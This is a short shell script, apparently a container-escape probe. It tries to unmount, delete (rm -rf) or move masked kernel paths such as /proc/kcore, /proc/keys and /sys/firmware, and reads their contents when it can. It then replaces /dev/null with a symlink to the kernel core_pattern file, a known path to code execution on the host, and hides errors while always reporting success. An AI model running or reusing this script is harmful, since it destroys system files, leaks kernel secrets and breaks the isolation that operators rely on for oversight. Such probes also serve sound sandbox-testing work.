read -r _ marker
for path in /proc/kcore /proc/keys /proc/timer_list /proc/sched_debug /proc/locks /proc/interrupts /sys/firmware; do
  umount "$path" && echo "ESCAPED: unmounted $path"
  rm -rf "$path" && echo "ESCAPED: removed $path"
  mv "$path" /tmp/moved && echo "ESCAPED: moved $path"
  [ -s "$path" ] && [ ! -d "$path" ] && head -c 64 "$path"
done 2>/dev/null
{ rm -f /dev/null || mv /dev/null /dev/old; ln -s /proc/sys/kernel/core_pattern /dev/null; } 2>/dev/stdout | grep -v 'cannot\|failed'
echo "$marker" > /dev/null
exit 0
